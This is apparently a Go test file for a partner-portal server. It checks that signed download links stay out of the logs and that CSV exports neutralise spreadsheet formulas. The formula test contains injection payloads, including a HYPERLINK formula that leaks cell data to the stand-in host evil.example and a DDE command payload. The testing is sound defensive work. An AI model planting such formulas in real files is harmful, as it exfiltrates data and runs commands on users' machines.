package server_test

// Tests of the security review's findings: each fails on the code before its fix.

import (
	"bytes"
	"context"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"partnerdesk/internal/app"
	"partnerdesk/internal/app/apptest"
	"partnerdesk/internal/demo"
	"partnerdesk/internal/desk"

	"github.com/labstack/echo/v4"
)

// syncBuffer is a log destination the server goroutines write while the test reads.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}
func (s *syncBuffer) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }

// startLogged starts PartnerDesk with its log captured.
func startLogged(t *testing.T, format string) (*apptest.Env, *syncBuffer) {
	buf := &syncBuffer{}
	env := apptest.StartWith(t, func(c *app.Config) {
		c.Logger = slog.New(slog.NewTextHandler(buf, nil))
		if format == "json" {
			c.Logger = slog.New(slog.NewJSONHandler(buf, nil))
		}
	})
	return env, buf
}

// secCopyLink issues a shared download link of a Contoso purchase as the admin agent.
func secCopyLink(t *testing.T, env *apptest.Env) (token string, ed desk.Edition, entID string) {
	t.Helper()
	ent, p := swPurchase(t, env, apptest.ContosoID, "Windows Server 2022 Standard - 2 Core")
	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
	ed, ok := p.Edition(ref)
	if !ok {
		t.Fatal("no edition")
	}
	u, _, err := env.App.Store.FindUserByEmail(context.Background(), swUsers["admin"])
	if err != nil {
		t.Fatal(err)
	}
	link, err := env.App.Service.IssueLink(context.Background(), desk.Actor{User: u, IP: "127.0.0.1"}, apptest.ContosoID, ent, ref, true)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimPrefix(link.URL, "/dl/"), ed, ent
}

// Finding 2: no logger and no error log writes a signed download link (the request log, the
// error handler, the panic log, the API's), in text or JSON.
func TestLogsNeverHoldSignedLinks(t *testing.T) {
	for _, format := range []string{"text", "json"} {
		t.Run(format, func(t *testing.T) {
			env, buf := startLogged(t, format)
			token, _, _ := secCopyLink(t, env)
			env.App.Server.AddTestRoute(http.MethodGet, "/dl/:token/panic", func(echo.Context) error { panic("boom") })
			anon := env.Client()
			for _, r := range []struct {
				method, path string
				headers      []string
			}{
				{"GET", "/dl/" + token, nil},
				{"HEAD", "/dl/" + token, nil},
				{"GET", "/dl/" + token, []string{"Range", "bytes=0-9"}},
				{"GET", "/dl/" + token + "x", nil},        // a damaged link: 403
				{"GET", "/dl/" + token + "/more", nil},    // no such route
				{"POST", "/dl/" + token, nil},             // no such method
				{"GET", "/dl/" + token + "/panic", nil},   // a panic
				{"GET", "/v1/dl/" + token, nil},           // the API's 404
				{"GET", "/signin?next=/dl/" + token, nil}, // the query is never logged either
			} {
				req, _ := http.NewRequest(r.method, env.URL+r.path, nil)
				for i := 0; i+1 < len(r.headers); i += 2 {
					req.Header.Set(r.headers[i], r.headers[i+1])
				}
				env.Do(t, anon, req)
			}
			// An outage: the error handlers log the failure of the portal and of the API.
			env.App.Store.Close()
			if res := env.Get(t, anon, "/dl/"+token); res.StatusCode != http.StatusInternalServerError {
				t.Errorf("/dl/ with the database closed: %d, want 500", res.StatusCode)
			}
			if res := env.Get(t, anon, "/v1/customers", "Authorization", "Bearer pdk_"+strings.Repeat("a", 40)); res.StatusCode != http.StatusInternalServerError {
				t.Errorf("API with the database closed: %d, want 500", res.StatusCode)
			}
			out := buf.String()
			for _, part := range append([]string{token}, strings.Split(token, ".")...) {
				if strings.Contains(out, part) {
					t.Fatalf("the log holds the signed link (%q):\n%s", part, out)
				}
			}
			for _, want := range []string{"/dl/:token", "panic", "boom", "internal error", "api internal error"} {
				if !strings.Contains(out, want) {
					t.Errorf("the log lacks %q:\n%s", want, out)
				}
			}
		})
	}
}

// Finding 4: the support form's order reference is an identifier, and the exports neutralise
// every cell a spreadsheet would run as a formula, also after leading spaces or tabs, and in
// every column (the order column was written raw).
func TestExportsNeutraliseFormulas(t *testing.T) {
	env := apptest.Start(t)
	ctx := context.Background()
	admin := env.SignIn(t, swUsers["admin"])
	before := cnSupportCount(t, env)
	for _, ref := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Refund")`, " =1+1", "|calc", "ORDER 1"} {
		f := cnSupportFields()
		f.Set("order_ref", ref)
		res := cnFileSupport(t, env, admin, f)
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(testid(doc(t, res.Body), "field-error-order_ref").Text()+res.Body, "order ID or a subscription ID") {
			t.Errorf("order reference %q: %d, want 422 naming the field", ref, res.StatusCode)
		}
	}
	if n := cnSupportCount(t, env); n != before {
		t.Fatalf("%d support requests stored from refused forms", n-before)
	}
	// Events with formula-like text in every text column (as older data, or any other route,
	// could hold): the export neutralises each.
	cells := []string{"=1+1", " +1", "\t-2+3", "@SUM(A1)", "|calc", "%0A", "  =cmd|' /C calc'!A0", "\r=1", "＝1"}
	for i, v := range cells {
		actAppend(t, env, desk.Event{At: apptest.Epoch.Add(time.Duration(i) * time.Second), Operation: desk.OpFileSupport, ResourceType: "support_request",
			CustomerID: apptest.ContosoID, CustomerName: v, ActorEmail: v, Product: v, OrderID: v, IP: "127.0.0.1", Detail: v})
	}
	_, recs := actCSV(t, env, env.SignIn(t, swUsers["global"]), url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpFileSupport}})
	if len(recs)-1 != len(cells) {
		t.Fatalf("%d rows, want %d", len(recs)-1, len(cells))
	}
	for _, r := range recs[1:] {
		for _, col := range []string{"customerName", "userPrincipalName", "product", "orderId", "detail"} {
			if v := actCol(t, [][]string{recs[0], r}, 1, col); !strings.HasPrefix(v, "'") {
				t.Errorf("%s %q is not neutralised", col, v)
			}
		}
	}
	// The invoice export too: a customer named like a formula, with an order.
	ga := env.SignIn(t, swUsers["global"])
	id := actNewCustomer(t, env, ga, "|calc Ltd.", "pipecalc")
	offer, _ := demoOfferPair(t)
	o, _, err := env.App.Service.PlaceOrder(ctx, actActor(t, env, swUsers["sales"], "127.0.0.1"), id, "csv-pipe", []desk.CartLine{{OfferID: offer, Quantity: 1}})
	if err != nil {
		t.Fatal(err)
	}
	res := env.Get(t, env.SignIn(t, swUsers["billing"]), "/billing/invoices/"+desk.InvoiceID(desk.Period(o.CreatedAt), o.Currency)+"/csv")
	if res.StatusCode != http.StatusOK || !strings.Contains(res.Body, ",'|calc Ltd.,") || strings.Contains(res.Body, ",|calc") {
		t.Errorf("invoice export: %d, the customer name not neutralised:\n%.600s", res.StatusCode, res.Body)
	}
	// Amounts stay plain numbers, credits negative, so that the spreadsheet can add them up.
	if !regexp.MustCompile(`,-?[0-9]+,-?[0-9]+,-?[0-9]+,HUF,`).MatchString(res.Body) {
		t.Errorf("invoice amounts are not plain numbers:\n%.600s", res.Body)
	}
}

// demoOfferPair is a perpetual Windows Server offer (sold in every market).
func demoOfferPair(t *testing.T) (string, string) {
	t.Helper()
	o, ok := demo.ResolveOffer(demo.Catalog(), "Windows Server 2022 Standard - 2 Core", desk.TermNone)
	if !ok {
		t.Fatal("no Windows Server offer")
	}
	return o.ID, o.Title
}
